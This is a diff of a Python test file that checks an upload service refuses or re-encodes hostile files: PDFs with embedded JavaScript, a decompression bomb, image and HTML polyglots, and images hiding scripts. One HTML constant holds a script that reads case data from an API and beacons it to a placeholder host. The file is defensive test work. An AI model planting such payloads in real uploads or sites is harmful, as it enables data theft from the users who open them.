@@ -1,6 +1,8 @@
 """Files that cannot hurt: a corpus of hostile and sloppy uploads, each refused with a reason or neutralised, through the
-ICTS upload service (the analyst who owns the case) and, for partners' files, at receipt (ICD §7). Serving adds a
-sandbox CSP and a download disposition. The figures (tried, refused, neutralised) are printed by the corpus test."""
+ICTS upload service (the analyst who owns the case) and, for partners' files, at receipt (ICD §7) and in storage.
+A script in every place a JPEG, PNG or TIFF can hold one (tests/files_corpus.py) comes out as pixels alone. Serving
+adds a sandbox CSP and a download disposition. The figures (tried, refused, neutralised) are printed by the corpus
+tests."""
 
 import base64
 import io
@@ -16,7 +18,9 @@ from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObjec
 from icts import services
 from icts.models import PackageAttachment
 from ident_bridge import filecheck, icd
-from tests.factories import AgreementFactory, PersonFactory, UserFactory, cis_record, request_message, store_inbound
+from tests.factories import (AgreementFactory, CaseFactory, PersonFactory, UserFactory, cis_record, request_message,
+                             response_message, result_message, store_inbound)
+from tests.files_corpus import FILENAMES, PLACES, clean_structure
 
 
 def pdf(build=None, *, encrypt=False) -> bytes:
@@ -44,6 +48,12 @@ def page_action(writer):
         NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")})})
 
 
+def names_javascript(writer):
+    action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")})
+    tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("run"), writer._add_object(action)])})
+    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): writer._add_object(tree)})
+
+
 def uri_link(writer):
     writer.add_uri(0, "https://www.uscis.gov/", [0, 0, 10, 10])
 
@@ -52,6 +62,9 @@ def image(fmt="PNG", size=(40, 30), **save) -> bytes:
     out = io.BytesIO()
     Image.new("RGB", size, (200, 30, 30)).save(out, fmt, **save)
     return out.getvalue()
+
+
+HTML = b"<html><body><script>fetch('/api/v1/cases/').then(r=>r.text()).then(t=>navigator.sendBeacon('//x',t))</script>"
 
 
 def jpeg_with_metadata_and_a_tail() -> bytes:
@@ -67,8 +80,6 @@ def bomb() -> bytes:
     Image.new("1", (30000, 30000)).save(out, "PNG")  # 900 megapixels of nothing: compresses to a few kB
     return out.getvalue()
 
-
-HTML = b"<html><body><script>fetch('/api/v1/cases/').then(r=>r.text()).then(t=>navigator.sendBeacon('//x',t))</script>"
 # (name, filename, declared type, bytes, what must happen: "refused: <words>" or "neutralised")
 CORPUS = [
     ("pdf-then-html", "scan.pdf", "application/pdf", b"%PDF-1.4\n" + HTML, "refused: web-page markup"),
@@ -92,8 +103,17 @@ CORPUS = [
     ("jpeg-exif-and-html-tail", "photo.jpg", "image/jpeg", jpeg_with_metadata_and_a_tail(), "neutralised"),
     ("png-then-zip", "photo.png", "image/png", image("PNG") + b"PK\x03\x04" + b"\x00" * 100, "neutralised"),
     ("tiff", "scan.tiff", "image/tiff", image("TIFF"), "neutralised"),
+    ("jpeg-script-in-comment", "photo.jpg", "image/jpeg", image("JPEG", comment=HTML), "neutralised"),
+    ("png-animated", "photo.png", "image/png", image("PNG", save_all=True, append_images=[Image.new("RGB", (40, 30))]),
+     "refused: animated"),
+    ("tiff-too-many-pages", "scan.tif", "image/tiff",
+     image("TIFF", size=(4, 4), save_all=True, append_images=[Image.new("RGB", (4, 4))] * 50),
+     "refused: at most 50"),
+    ("pdf-document-javascript", "scan.pdf", "application/pdf", pdf(names_javascript), "refused: JavaScript"),
 ]
-CLEAN = [("pdf-plain", "scan.pdf", "application/pdf", pdf()), ("pdf-with-a-web-link", "scan.pdf", "application/pdf", pdf(uri_link))]
+CLEAN = [("pdf-plain", "scan.pdf", "application/pdf", pdf()), ("pdf-with-a-web-link", "scan.pdf", "application/pdf", pdf(uri_link)),
+         # Markup as a title's text, escaped (\074script\076): a string a viewer shows, never bytes a browser could sniff.
+         ("pdf-escaped-markup-in-title", "scan.pdf", "application/pdf", pdf(lambda w: w.add_metadata({"/Title": HTML.decode()})))]
 
 
 @pytest.fixture
@@ -131,6 +151,7 @@ def test_every_hostile_upload_is_refused_or_neutralised(case, capsys):
         stored = att.file.open("rb").read()
         assert stored != data and Image.open(io.BytesIO(stored)).size  # drawn again from its pixels
         assert b"<html" not in stored and b"PK\x03\x04" not in stored and b"Secret Lane" not in stored, name
+        assert clean_structure(stored) == [], name
         assert att.sha256 == icd.sha256_hex(stored)
         neutralised += 1
     for name, filename, declared, data in CLEAN:
@@ -171,3 +192,59 @@ def test_served_files_are_sandboxed_downloads_unless_re_encoded_images(case, cli
     for resp in (shown, downloaded):
         assert resp["Content-Security-Policy"].startswith("sandbox") and resp["X-Content-Type-Options"] == "nosniff"
     assert json.dumps(sorted(filecheck.EXTENSIONS)) == '["application/pdf", "image/jpeg", "image/png", "image/tiff"]'
+
+
+def test_a_script_in_any_place_an_image_holds_one_is_not_stored(case, capsys):
+    """Every place of tests/files_corpus.py, uploaded by the analyst: what is stored (and sent) is pixels alone."""
+    case, analyst = case
+    wrong = {}
+    for media_type, place, build in PLACES:
+        data = build()
+        att = services.package_add_attachment(actor=analyst, case=case, filename=FILENAMES[media_type], data=data,
+                                              kind="passport", declared_type=media_type)
+        stored = att.file.open("rb").read()
+        found = clean_structure(stored)
+        original, copy = Image.open(io.BytesIO(data)), Image.open(io.BytesIO(stored))
+        if copy.size != original.size or getattr(copy, "n_frames", 1) != getattr(original, "n_frames", 1):
+            found.append(f"{copy.size}/{getattr(copy, 'n_frames', 1)} pages, not {original.size}/{getattr(original, 'n_frames', 1)}")
+        if found or att.media_type != media_type or att.sha256 != icd.sha256_hex(stored):
+            wrong[f"{media_type} {place}"] = found
+        services.package_remove_attachment(actor=analyst, case=case, attachment_id=att.pk)  # the same pixels come next
+    with capsys.disabled():
+        print(f"\nimage places: {len(PLACES)} scripts hidden in JPEG, PNG and TIFF files, {len(PLACES) - len(wrong)} gone")
+    assert wrong == {}
+
+
+def test_a_partners_image_is_stored_as_pixels_alone_and_the_original_kept_as_evidence(db, media_root):
+    """ICD §7 checks the partner's sha256 on the bytes as received; CPMS keeps, shows and hands on the re-encoded copy,
+    and the raw inbound message (the evidence) still holds the original."""
+    from cpms.queries import services as queries
+    from cpms.queries.models import ResponseAttachment
+
+    AgreementFactory(partner__code="CAN")
+    officer = UserFactory(role="officer")
+    case = CaseFactory(officers=[officer])
+    rows = []
+    for start in range(0, len(PLACES), icd.MAX_ATTACHMENTS):
+        chunk = PLACES[start:start + icd.MAX_ATTACHMENTS]
+        sent = [icd.attachment(filename=FILENAMES[m], media_type=m, kind="passport", data=build()) for m, _, build in chunk]
+        query = queries.query_submit(actor=officer, case=case, partner_code="CAN", reason="asylum_claimant", priority="high")
+        result = result_message(query)
+        queries.round1_record_result(message=result, inbound=store_inbound(result))
+        message = response_message(query, attachments=sent)
+        assert icd.parse(icd.canonical_bytes(message), accept_types=icd.IDENT_TO_CPMS).errors == []  # accepted at receipt
+        response = queries.round_record_response(message=message, inbound=store_inbound(message))
+        rows += [(place, att, row) for (_, place, _), att, row in zip(chunk, sent, response.attachments.all(), strict=True)]
+    wrong = {}
+    for place, att, row in rows:
+        stored = row.file.open("rb").read()
+        evidence = icd.loads(bytes(row.response.inbound_message.raw))[0]["body"]["attachments"][row.position]
+        problems = clean_structure(stored)
+        if row.sha256 != icd.sha256_hex(stored) or row.size != len(stored) or row.received_sha256 != att["sha256"]:
+            problems.append("digests")
+        if evidence["content_base64"] != att["content_base64"] or evidence["sha256"] != row.received_sha256:
+            problems.append("the evidence lost the original")
+        if problems:
+            wrong[place] = problems
+    assert len(rows) == len(PLACES) == ResponseAttachment.objects.count()
+    assert wrong == {}
